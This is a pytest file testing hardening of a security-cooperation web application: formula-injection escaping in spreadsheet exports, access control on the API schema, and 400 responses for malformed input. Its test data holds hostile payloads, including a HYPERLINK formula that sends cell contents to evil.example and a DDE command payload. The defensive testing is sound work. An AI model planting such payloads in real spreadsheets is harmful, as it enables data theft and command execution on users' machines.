"""Issue 10 hardening: spreadsheet formula injection (item 6), bad input answered with a 400 and a
message instead of a 500 (item 7), the schema endpoint built once and served to signed-in users
only (item 10)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook
from openpyxl import load_workbook

from secoop.core.markings import Marking
from secoop.core.spreadsheets import FORMULA_TRIGGERS
from secoop.core.spreadsheets import csv_cell
from secoop.core.spreadsheets import workbook_bytes
from tests.conftest import builds

pytestmark = pytest.mark.django_db

# --- Item 6: formula injection ---------------------------------------------------------------

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
ALL_PAYLOADS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def cells_holding(content: bytes, text: str):
    wb = load_workbook(io.BytesIO(content))
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == text]
    assert found, f"{text!r} is not in the export"
    return found


def assert_written_as_text(content: bytes, text: str) -> None:
    for cell in cells_holding(content, text):
        assert cell.data_type != "f", f"{cell.coordinate} of {cell.parent.title} is a live formula"
        assert cell.value == text


def test_item6_helper_writes_every_formula_trigger_as_text():
    wb = Workbook()
    for payload in ALL_PAYLOADS:
        wb.active.append([payload, 42, -7])
    content = workbook_bytes(wb, Marking.parse("CUI"))
    for payload in ALL_PAYLOADS:
        assert_written_as_text(content, payload)
    numbers = [
        c
        for row in load_workbook(io.BytesIO(content)).active.iter_rows()
        for c in row
        if c.column > 1
    ]
    assert {c.data_type for c in numbers} == {"n"}  # numbers stay numbers, negatives included


def test_item6_csv_cells_are_prefixed_with_a_quote():
    assert [csv_cell(p) for p in ALL_PAYLOADS] == ["'" + p for p in ALL_PAYLOADS]
    assert csv_cell("Coastal radar spares") == "Coastal radar spares"
    assert csv_cell(-5) == -5
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


def test_item6_partner_lor_title_reaches_the_sco_lor_export_as_text(api, login):
    from secoop.core.models import Organization

    mod = Organization.objects.system().get(short_name="Bandaria MoD")
    r = api("partner.bandaria").post(
        "/api/v1/cases/lors/",
        {
            "title": PAYLOAD,
            "country": "XBN",
            "owner_org": mod.pk,
            "requested_items": "Spares",
            "estimated_value": "120000.00",
            "request_type": "pa",
            "marking": "CUI//REL TO USA, XBN",
        },
        format="json",
    )
    assert r.status_code == 201, r.content
    response = login("sco.bandaria").get("/cases/lors/", {"format": "xlsx"})
    assert response.status_code == 200
    assert_written_as_text(response.content, PAYLOAD)


def test_item6_documents_list_export_writes_a_formula_title_as_text(login):
    from secoop.core import actions
    from secoop.core.markings import Marking
    from secoop.core.models import Document
    from secoop.core.models import Organization
    from secoop.core.models import User

    sco = User.objects.get(username="sco.bandaria")
    doc = Document(
        title="=SUM(1,1)",
        owner_org=Organization.objects.system().get(short_name="SCO Bandaria"),
        country_id="XBN",
    )
    doc.marking = Marking.parse("CUI")
    actions.create_record(sco, doc)
    response = login("sco.bandaria").get("/documents/", {"format": "xlsx"})
    assert response.status_code == 200
    assert_written_as_text(response.content, "=SUM(1,1)")
    # Issue 15 §6: the streamed CSV export quotes it as every CSV writer does.
    csv_text = login("sco.bandaria").get("/documents/", {"format": "csv"}).getvalue().decode()
    assert "'=SUM(1,1)" in csv_text and "\n=SUM" not in csv_text and ",=SUM" not in csv_text


def test_item6_planning_matrix_xlsx_writes_a_formula_title_as_text(login):
    from secoop.planning.models import Activity
    from secoop.planning.models import CountryPlan

    cscs = CountryPlan.objects.system().get(country_id="XBN", version=1)
    with builds("a formula in a title"):
        Activity.objects.system().filter(
            pk=Activity.objects.system()
            .get(title__startswith="Border brigade capability assessment")
            .pk
        ).update(title=PAYLOAD)
    response = login("ccmd.planner").get(f"/planning/country-plans/{cscs.pk}/export/xlsx/")
    assert response.status_code == 200
    assert_written_as_text(response.content, PAYLOAD)


def test_item6_case_status_report_writes_a_formula_title_as_text(login):
    from secoop.cases.models import FmsCase

    with builds("a formula in a title"):
        FmsCase.objects.system().filter(identifier="XB-B-ZAA").update(title="=2+3")
    radios = FmsCase.objects.system().get(identifier="XB-B-ZAA")
    response = login("case.manager").get(f"/cases/{radios.pk}/status.xlsx")
    assert response.status_code == 200
    assert_written_as_text(response.content, "=2+3")


def test_item6_training_cetpp_xlsx_writes_a_formula_position_as_text():
    from secoop.core.models import User
    from secoop.training import demo
    from secoop.training import exports
    from secoop.training.models import Cetpp
    from secoop.training.models import GraduatePosition
    from secoop.training.models import TrainingPlan

    cetpp = Cetpp.objects.system().get(
        plan=TrainingPlan.objects.system().get(title=demo.PLAN_TITLE), fiscal_year=2027
    )
    positions = GraduatePosition.objects.system().filter(
        student__country_id="XBN", fiscal_year=2027
    )
    assert positions.exists()
    with builds("a formula in a position"):
        positions.update(position=PAYLOAD)
    content = exports.cetpp_xlsx(cetpp, User.objects.get(username="sco.bandaria")).content
    assert_written_as_text(content, PAYLOAD)


# --- Item 10: the schema endpoint ------------------------------------------------------------


@pytest.fixture
def fresh_schema_cache():
    from secoop.core import api_schema

    # The schema this process built before stays for the tests after this one (it takes seconds).
    built = dict(api_schema._schemas)
    api_schema.clear_schema_cache()
    yield
    api_schema.clear_schema_cache()
    api_schema._schemas.update(built)


@pytest.mark.parametrize("url", ["/api/schema/", "/api/schema/?format=json"])
def test_item10_schema_is_refused_to_anonymous_callers(
    client, url, fresh_schema_cache, monkeypatch
):
    from drf_spectacular.generators import SchemaGenerator

    def fail(*args, **kwargs):
        raise AssertionError("an anonymous request must not build the schema")

    monkeypatch.setattr(SchemaGenerator, "get_schema", fail)
    response = client.get(url)
    assert response.status_code in (401, 403)
    assert len(response.content) < 1000


@pytest.mark.parametrize("url", ["/api/docs/", "/api/redoc/"])
def test_item10_docs_send_anonymous_browsers_to_the_logon_page(client, login, url):
    response = client.get(url)
    assert response.status_code == 302 and response["Location"].startswith("/login/")
    assert login("le.staff").get(url).status_code == 200


def test_item10_schema_is_built_once_and_served_to_signed_in_users(
    api, login, fresh_schema_cache, monkeypatch
):
    from drf_spectacular.generators import SchemaGenerator

    calls = []
    original = SchemaGenerator.get_schema

    def counting(self, *args, **kwargs):
        calls.append(kwargs)
        return original(self, *args, **kwargs)

    monkeypatch.setattr(SchemaGenerator, "get_schema", counting)
    first = api("sco.bandaria").get("/api/schema/", {"format": "json"})
    assert first.status_code == 200, first.content[:300]
    assert "/api/v1/cases/lors/" in first.json()["paths"]
    again = api("partner.bandaria").get("/api/schema/", {"format": "json"})
    by_session = login("le.staff").get("/api/schema/")
    assert again.status_code == 200 and by_session.status_code == 200
    assert again.content == first.content  # nothing user-specific in it
    assert len(calls) == 1


# --- Item 7: bad input is a 400 with a message -----------------------------------------------


def action_urls() -> dict[str, str]:
    """Action endpoints that read named fields from the body, one per app."""
    from secoop.cases.models import LetterOfRequest
    from secoop.core.models import Notification
    from secoop.core.models import User
    from secoop.training import demo
    from secoop.training.models import ArrivalNotice
    from secoop.training.models import Cetpp
    from secoop.training.models import TrainingPlan

    sco = User.objects.get(username="sco.bandaria")
    note = Notification.objects.visible_to(sco).first()
    cetpp = Cetpp.objects.system().get(
        plan=TrainingPlan.objects.system().get(title=demo.PLAN_TITLE), fiscal_year=2027
    )
    lor = LetterOfRequest.objects.system().get(title="Coastal patrol boats")
    return {
        "notification acknowledge": f"/api/v1/notifications/{note.pk}/acknowledge/",
        "cetpp approve": f"/api/v1/training/cetpps/{cetpp.pk}/approve/",
        "lor route": f"/api/v1/cases/lors/{lor.pk}/route/",
        "arrival notice send": f"/api/v1/training/arrival-notices/{ArrivalNotice.objects.system().first().pk}/send/",
    }


@pytest.mark.parametrize(
    "endpoint", ["notification acknowledge", "cetpp approve", "lor route", "arrival notice send"]
)
@pytest.mark.parametrize("body", ["[1, 2]", '"approve"', "42", "true"])
def test_item7_json_body_that_is_not_an_object_is_a_400(api, endpoint, body):
    url = action_urls()[endpoint]
    response = api("sco.bandaria").post(url, data=body, content_type="application/json")
    assert response.status_code == 400, (url, response.content[:300])
    assert "must be a JSON object" in response.json()["detail"]


@pytest.mark.parametrize("depth", [40, 100_000])
def test_item7_deeply_nested_json_is_a_400(api, depth):
    body = '{"reason": ' + "[" * depth + "]" * depth + "}"
    response = api("sco.bandaria").post(
        action_urls()["notification acknowledge"], data=body, content_type="application/json"
    )
    assert response.status_code == 400
    assert "nests deeper than 32 levels" in response.json()["detail"]


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/organizations/?parent=3.46e41",
        "/api/v1/organizations/?parent=-3.46e41",
        "/api/v1/notifications/?recipient_org=99999999999999999999999",
        "/api/v1/notifications/?recipient_org=3.46e41",
    ],
)
def test_item7_overflowing_integer_filter_is_a_400(api, url):
    response = api("sco.bandaria").get(url)
    assert response.status_code == 400, response.content[:300]
    assert (
        "less than or equal to" in str(response.json())
        or "greater than or equal to" in str(response.json())
        or "whole number" in str(response.json())
    )


def test_item7_foreign_key_filter_reads_only_the_id(api):
    from secoop.core.models import Notification
    from secoop.core.models import User

    sco = User.objects.get(username="sco.bandaria")
    note = Notification.objects.visible_to(sco).first()
    response = api("sco.bandaria").get(
        "/api/v1/notifications/", {"recipient_org": note.recipient_org_id}
    )
    assert response.status_code == 200
    assert note.pk in {n["id"] for n in response.json()["results"]}
    assert (
        api("sco.bandaria")
        .get("/api/v1/notifications/", {"recipient_org": 987654321})
        .json()["count"]
        == 0
    )


@pytest.mark.parametrize(
    "method,url,data",
    [
        ("get", "/countries/%00/", None),
        ("get", "/api/v1/countries/%00/", None),
        ("get", "/documents/?q=a%00b", None),
        ("get", "/api/v1/documents/?search=a%00b", None),
    ],
)
def test_item7_nul_byte_in_path_or_query_is_a_400(login, method, url, data):
    response = getattr(login("sco.bandaria"), method)(url)
    assert response.status_code == 400
    assert "NUL character" in response.content.decode()


def test_item7_nul_byte_in_a_json_reason_is_a_400(api):
    response = api("sco.bandaria").post(
        action_urls()["notification acknowledge"], {"reason": "seen\x00"}, format="json"
    )
    assert response.status_code == 400
    assert "NUL character" in response.json()["detail"]


def test_item7_nul_byte_in_the_web_logon_form_is_a_400(client):
    session = client.session
    session["consent_acknowledged"] = True
    session.save()
    response = client.post("/login/", {"username": "sco.bandaria\x00", "password": "x"})
    assert response.status_code == 400
    assert "NUL character" in response.content.decode()


def test_item7_a_100000_character_username_is_a_400(client):
    from secoop.core.models import AuditEvent

    before = AuditEvent.objects.count()
    response = client.post(
        "/api/v1/auth/token/",
        {"username": "u" * 100_000, "password": "x"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "username" in response.json()
    client.post("/login/", {"consent": "agree"})
    response = client.post("/login/", {"username": "u" * 100_000, "password": "x"})
    assert response.status_code == 400
    assert "A user name has at most 150 characters" in response.content.decode()
    assert AuditEvent.objects.count() <= before + 1  # at most the consent acknowledgement


def test_item7_a_bad_date_on_arrival_notice_send_is_a_400_naming_the_field(api):
    response = api("sco.bandaria").post(
        action_urls()["arrival notice send"], {"sent_on": "2027-13-45"}, format="json"
    )
    assert response.status_code == 400
    assert "sent_on" in response.json()


def test_item7_matrix_reschedule_with_an_activity_that_is_not_a_number_is_a_400(login):
    from secoop.planning.models import CountryPlan

    cscs = CountryPlan.objects.system().get(country_id="XBN", version=1)
    response = login("ccmd.planner").post(
        f"/planning/country-plans/{cscs.pk}/matrix/reschedule/",
        {"activity": "abc", "start": "2027-01-04"},
    )
    assert response.status_code == 400
    assert "by its number" in response.content.decode()


# --- Found by schemathesis -------------------------------------------------------------------


def test_schemathesis_finding_a_unique_field_is_checked_without_a_500(api):
    """POST /api/v1/training/courses/ crashed: DRF's UniqueValidator on course_id read the table
    past the access door. The check now answers like the unique index: 400, already exists."""
    from secoop.training.models import Course

    taken = Course.objects.system().first().course_id
    response = api("sco.bandaria").post(
        "/api/v1/training/courses/",
        {
            "course_id": taken,
            "length_weeks": "",
            "marking": "CUI",
            "owner_org": 300,
            "school": "x",
            "title": "x",
        },
        format="json",
    )
    assert response.status_code == 400, response.content[:300]
    assert "already exists" in str(response.json()["course_id"])
